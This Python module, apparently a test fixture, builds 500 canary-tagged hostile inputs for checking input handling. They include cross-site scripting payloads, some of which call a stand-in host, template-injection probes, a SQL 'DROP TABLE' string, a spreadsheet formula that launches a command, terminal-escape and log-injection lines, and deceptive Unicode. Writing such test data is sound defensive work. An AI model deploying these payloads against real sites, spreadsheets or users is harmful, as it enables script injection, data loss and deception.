"""Five hundred texts that want to be something else than text, all invented here.

Each holds `CANARY`, so that where one turns up can be seen. Markup in every place that browsers
know, formulas for spreadsheets, lines for logs, templates, patterns, and letters that deceive eyes.
"""

from __future__ import annotations

from itertools import cycle, islice

__all__ = ["CANARY", "FORMULAS", "TEXTS"]

CANARY = "chimyen"

_ACTS = (
    f"window.{CANARY}=1",
    f"alert('{CANARY}')",
    f"fetch('//ngoai.vi.du/{CANARY}')",
    f"location='//ngoai.vi.du/{CANARY}'",
)
_MARKUP = (
    "<script>{act}</script>",
    "</script><script>{act}//",
    "<img src=x onerror={act}>",
    "<img src=//ngoai.vi.du/{canary}.png>",
    "<svg onload={act}>",
    "<svg><animate onbegin={act} attributeName=x>",
    '<math><mi//xlink:href="javascript:{act}">',
    '<iframe srcdoc="<script>{act}</script>">',
    "<iframe src=javascript:{act}>",
    '<a href="javascript:{act}">bấm</a>',
    "<a href=' javas\tcript:{act}'>bấm</a>",
    "<form action=//ngoai.vi.du/{canary}><button>Gửi</button></form>",
    "<input autofocus onfocus={act}>",
    "<details open ontoggle={act}>",
    "<style>@import '//ngoai.vi.du/{canary}'</style>",
    "<link rel=stylesheet href=//ngoai.vi.du/{canary}>",
    "<base href=//ngoai.vi.du/{canary}/>",
    "<meta http-equiv=refresh content='0;url=//ngoai.vi.du/{canary}'>",
    "<object data=javascript:{act}>",
    "<template shadowrootmode=open><img src=x onerror={act}></template>",
    '"><img src=x onerror={act}>',
    "'><svg/onload={act}>",
    '" autofocus onfocus="{act}',
    "` onmouseover={act} x=`",
    "--><script>{act}</script><!--",
    "]]><script>{act}</script>",
    "</textarea><script>{act}</script>",
    "</title><script>{act}</script>",
    '<noscript><p title="</noscript><img src=x onerror={act}>">',
    "<button hx-get=//ngoai.vi.du/{canary} hx-trigger=load>",
    '<div hx-on:load="{act}" data-hx-get=/sign-out>',
    "&lt;script&gt;{act}&lt;/script&gt;",
    "&#60;img src=x onerror={act}&#62;",
    "\\u003cscript\\u003e{act}\\u003c/script\\u003e",
    "＜script＞{act}＜/script＞",
    "javascript:{act}",
    "data:text/html,<script>{act}</script>",
    "[bấm](javascript:{act})",
    "![x](//ngoai.vi.du/{canary}.png)",
    "{{{{ cycler.__init__.__globals__ }}}} {canary}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}} {canary}",
    "${{7*7}} #{{7*7}} <%= 7*7 %> {canary}",
    "%(n)s %s {{0}} {{}} {canary}",
    "'; DROP TABLE comments; -- {canary}",
    "(a+)+$ [[[ (?<=x {canary}",
)
_FORMULAS = (
    '=1+1&"{canary}"',
    '=HYPERLINK("//ngoai.vi.du/{canary}","bấm")',
    "=cmd|' /C calc'!{canary}",
    "+1+1 {canary}",
    "-1+1 {canary}",
    "@SUM(1+1) {canary}",
    "\t=1+1 {canary}",
    "\r=1+1 {canary}",
    "\n=1+1 {canary}",
    "＝1+1 {canary}",
    "＋1 {canary}",
    "﹣1 {canary}",
    "＠SUM(1) {canary}",
    "|calc {canary}",
    "%0A=1+1 {canary}",
)
_LINES = (
    "{canary}\n2026-11-22T00:00:00Z [error] nhật ký giả",
    '{canary}\r\n{{"event": "signed_in", "level": "info"}}',
    "{canary}\x1b[2J\x1b[31mđỏ",
    "{canary}\x08\x08\x08\x7f",
    "{canary}\u2028dòng\u2029khác\x85nữa",
)
_LETTERS = (
    "\u202e{canary} gnụd tảhn\u202c",
    "\u2066{canary}\u2067ngược\u2069\u2069\u2069",
    "{canary}\u200b\u200c\u200d\u2060\ufeff",
    "{canary}" + "\u0351\u0489\u20dd" * 80,
    "{canary}\U000e0041\U000e0042\U000e007f",
    "{canary} \u0000".replace("\u0000", "\u2400"),
    "{canary} \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "{canary} \u0627\u0644\u0644\u0647 \ufdfd",
    "{canary}" + "𒐫" * 60,
    "{canary}" + "a" * 3_000,
    "{canary} " + "ﷺ" * 50,
    "аpрlе сhính quуền {canary}",
    "{canary} xn--80ak6aa92e.com/đăng-nhập",
    "{canary}\u3164\u115f\u1160\u17b4",
)


def _made() -> list[str]:
    """Every shape with every act, and with a few words around it, to five hundred."""
    plain = [one.format(act=act, canary=CANARY) for act in _ACTS for one in _MARKUP]
    plain += [one.format(canary=CANARY) for one in (*_FORMULAS, *_LINES, *_LETTERS)]
    around = [f"Cho hỏi {one} ạ" for one in plain]
    doubled = [f"{a} {b}" for a, b in zip(plain, plain[7:], strict=False)]
    return list(islice(cycle([*plain, *around, *doubled]), 500))


TEXTS = [f"{text} {number}" for number, text in enumerate(_made())]
FORMULAS = [one.format(canary=CANARY) for one in _FORMULAS]
